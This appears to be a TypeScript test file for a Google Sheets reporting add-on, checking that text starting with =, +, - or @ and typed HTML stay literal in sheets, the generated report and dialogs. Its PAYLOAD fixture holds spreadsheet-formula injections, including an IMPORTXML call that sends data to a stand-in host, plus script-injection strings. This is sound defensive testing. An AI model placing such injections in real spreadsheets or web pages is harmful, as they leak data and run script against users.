// Injection on the BUILT bundle: unit text starting with = + - @ never becomes a formula in any sheet the add-on
// writes, and HTML typed by a unit stays literal text in the report and the dialogs. (In the sidebar it runs in a real
// browser: test/browser/operator-sidebar.test.ts "shows unit-supplied text literally and runs none of it".)

import { EmuParagraph, type EmuSheet, EmuTable, loadBundle, type TextRun } from '../../emulator';
import { SAMPLE_UNITS } from '../../fixtures/sample/units';
import { CONFIG_SHEET, VALIDATION_SHEET } from '../../src/core/config/sheet-names';
import { locateTab, posA1 } from '../../src/core/schema/locate-tab';
import { SCHEMA } from '../../src/core/schema/schema';
import type { ActionResult, TabCheck } from '../../src/shared/rpc';
import { builtDist, removeBuiltDistCopy } from '../browser/built-dist';
import { ADMIN, type SampleSheet, sampleSheet, valuesOf } from '../e2e/sample-sheet';

const unitA = SAMPLE_UNITS[0];
const unitB = SAMPLE_UNITS[1];
const operatorA = unitA.operators[0] as string;

/** Text a unit or an admin types, each starting with a character that would start a formula. */
const PAYLOAD = {
  name: '=IMPORTXML("http://jahat.test/curi";"//a")',
  htmlName: '<img src=x onerror=alert(1)>Rutan Uji',
  komoditas: '=HYPERLINK("http://jahat.test";"klik")',
  mitra: '+SUM(1;2)',
  catatan: '-2+3 <a href="http://jahat.test">klik</a><script>alert(1)</script>',
  atKomoditas: '@IMPORTRANGE("abc";"A1")',
  returnNote: '=IMAGE("http://jahat.test/x.png")',
  tabName: '=HYPERLINK("http://jahat.test";"Salinan")',
} as const;

/** The add-on's own links in Validasi: to a cell of this Sheet, with a quoted label. */
const OWN_LINK = /^=HYPERLINK\("#gid=\d+&range=[A-Z]+\d+","(?:[^"]|"")*"\)$/;

afterAll(removeBuiltDistCopy);

function sheetOf(s: SampleSheet, name: string): EmuSheet {
  const sheet = s.emulator.spreadsheet.sheetByNameUnrecorded(name);
  if (!sheet) throw new Error(`No sheet ${name}`);
  return sheet;
}

/** Stores text in a cell exactly as a person's typed text reads back (a text cell, never a formula). */
function typeText(sheet: EmuSheet, a1: string, text: string): void {
  const cell = sheet.getRange(a1);
  sheet.ensureCell(cell.getRow(), cell.getColumn()).value = text;
}

/** A1 of the first field whose key ends with `suffix` on a unit tab. */
function fieldCell(sheet: EmuSheet, suffix: string): string {
  const fields = locateTab(sheet.getDataRange().getValues(), SCHEMA).fields;
  const found = [...fields].find(([key]) => key.endsWith(suffix));
  if (!found) throw new Error(`No field *${suffix} on ${sheet.getName()}`);
  return posA1(found[1]);
}

/** Every text run of the Doc: body paragraphs, list items and table cells. */
function docRuns(s: SampleSheet): TextRun[] {
  const doc = s.emulator.docs.all().at(-1);
  if (!doc) throw new Error('No report');
  return doc.body.children.flatMap((child) => {
    if (child instanceof EmuParagraph) return child.text.runs();
    if (child instanceof EmuTable)
      return child.rows.flatMap((r) => r.cells.flatMap((c) => c.paragraphs.flatMap((p) => p.text.runs())));
    return [];
  });
}

/** The whole Kanwil month with injected text: set up, fill, send, return, validate, consolidate, report, dialogs. */
function monthWithInjectedText(): SampleSheet {
  const sample = sampleSheet();
  const s: SampleSheet = { emulator: sample.emulator, bundle: loadBundle(sample.emulator, { distDir: builtDist() }) };
  const config = sheetOf(s, CONFIG_SHEET);
  const grid = valuesOf(s.emulator, CONFIG_SHEET);
  const nameCol = (grid.find((r) => r[0] === 'Kode') ?? []).indexOf('Nama UPT') + 1;
  const rowOf = (code: string) => grid.findIndex((r) => r[0] === code) + 1;
  typeText(config, config.getRange(rowOf(unitA.code), nameCol).getA1Notation(), PAYLOAD.name);
  typeText(config, config.getRange(rowOf(unitB.code), nameCol).getA1Notation(), PAYLOAD.htmlName);
  // Unit A ends the month returned: the provisional basis still counts it, so its text reaches the summaries.
  config.getRange(grid.findIndex((r) => r[0] === 'Dasar rekap') + 1, 2).setValue('Semua tab terisi (sementara)');
  s.bundle.run('setupUnitTabs');

  const tabA = sheetOf(s, unitA.sheetName);
  const tabB = sheetOf(s, unitB.sheetName);
  typeText(tabA, fieldCell(tabA, 'pertanian.komoditas'), PAYLOAD.komoditas);
  typeText(tabA, fieldCell(tabA, '.mitra'), PAYLOAD.mitra);
  typeText(tabA, fieldCell(tabA, 'dapur_sehat_catatan'), PAYLOAD.catatan);
  typeText(tabB, fieldCell(tabB, 'hortikultura.komoditas'), PAYLOAD.atKomoditas);

  // A copy of a unit's tab left under a formula-like name: Validasi names it, as text.
  const ss = s.emulator.spreadsheet;
  const copy = ss.addSheetUnrecorded(PAYLOAD.tabName, ss.sheets.length, tabA.maxRows, tabA.maxColumns);
  tabA.copyContentsTo(copy);

  const sent = s.bundle.callFromSidebar(operatorA, 'sendUnitTab', unitA.code) as TabCheck;
  expect(sent.unit.status).toBe('Dikirim');
  const returned = s.bundle.callFromSidebar(ADMIN, 'returnUnitTab', unitA.code, PAYLOAD.returnNote) as ActionResult;
  expect(returned.ok).toBe(true);
  for (const action of ['validateAll', 'consolidateNow', 'generateReport', 'showSubmissionStatus', 'setupUnitTabs'])
    s.bundle.run(action);
  return s;
}

/** Formulas in any sheet other than the add-on's own links in Validasi. */
function foreignFormulas(s: SampleSheet): { sheet: string; cell: string; f: string }[] {
  const found = s.emulator.spreadsheet.sheets.flatMap((sheet) =>
    sheet
      .getDataRange()
      .getFormulas()
      .flatMap((row, r) =>
        row.flatMap((f, c) => (f === '' ? [] : [{ sheet: sheet.getName(), cell: `R${r + 1}C${c + 1}`, f }])),
      ),
  );
  return found.filter((x) => !(x.sheet === VALIDATION_SHEET && OWN_LINK.test(x.f)));
}

describe('unit text that looks like a formula or HTML', () => {
  const s = monthWithInjectedText();

  it('never becomes a formula in any sheet: the only formulas are the add-on’s own links in Validasi', () => {
    expect(foreignFormulas(s)).toEqual([]);
    const links = sheetOf(s, VALIDATION_SHEET)
      .getDataRange()
      .getFormulas()
      .flat()
      .filter((f) => f !== '');
    expect(links.length).toBeGreaterThan(0);
  });

  it('shows the text as typed in the unit tab, the summaries and the status cells', () => {
    const everything = s.emulator.spreadsheet.sheets.map((sheet) => ({
      name: sheet.getName(),
      text: sheet
        .getDataRange()
        .getValues()
        .flat()
        .map((v) => String(v)),
    }));
    const where = (text: string) =>
      everything.filter((sh) => sh.text.some((v) => v.includes(text))).map((sh) => sh.name);
    expect(where(PAYLOAD.name)).toEqual(expect.arrayContaining([unitA.sheetName, 'Status']));
    expect(where(PAYLOAD.komoditas)).toEqual(expect.arrayContaining([unitA.sheetName, 'Rekap Pangan']));
    expect(where(PAYLOAD.atKomoditas)).toEqual(expect.arrayContaining([unitB.sheetName, 'Rekap Pangan']));
    expect(where(PAYLOAD.returnNote)).toEqual(expect.arrayContaining([unitA.sheetName, 'Status']));
    const validation = valuesOf(s.emulator, VALIDATION_SHEET);
    expect(validation.some((r) => r[1] === PAYLOAD.tabName)).toBe(true);
  });

  it('keeps HTML and formula text literal in the report, with no link created from it', () => {
    const runs = docRuns(s);
    const text = runs.map((r) => r.text).join('');
    expect(text).toContain(PAYLOAD.htmlName);
    expect(text).toContain(PAYLOAD.name);
    expect(runs.filter((r) => r.style.linkUrl)).toEqual([]);
  });

  it('escapes a unit name with HTML in the submission status dialog', () => {
    const dialog = s.emulator.sheets.ui.dialogs.at(-1);
    if (!dialog) throw new Error('No dialog');
    const html = (dialog.html as { getContent(): string }).getContent();
    expect(html).toContain('&#60;img src=x onerror=alert(1)&#62;Rutan Uji');
    expect(html).not.toMatch(/<img|<script|onerror=alert\(1\)>/);
  });

  it('is archived as text when the period closes', () => {
    s.emulator.sheets.ui.queueResponse('YES');
    s.bundle.run('closePeriod');
    expect(s.emulator.sheets.ui.alerts.at(-1)?.prompt).not.toMatch(/Terjadi kesalahan/);
    const archived = valuesOf(s.emulator, 'Arsip').flat().map(String);
    for (const text of [PAYLOAD.komoditas, PAYLOAD.mitra, PAYLOAD.atKomoditas]) expect(archived).toContain(text);
    expect(foreignFormulas(s)).toEqual([]);
  });
});
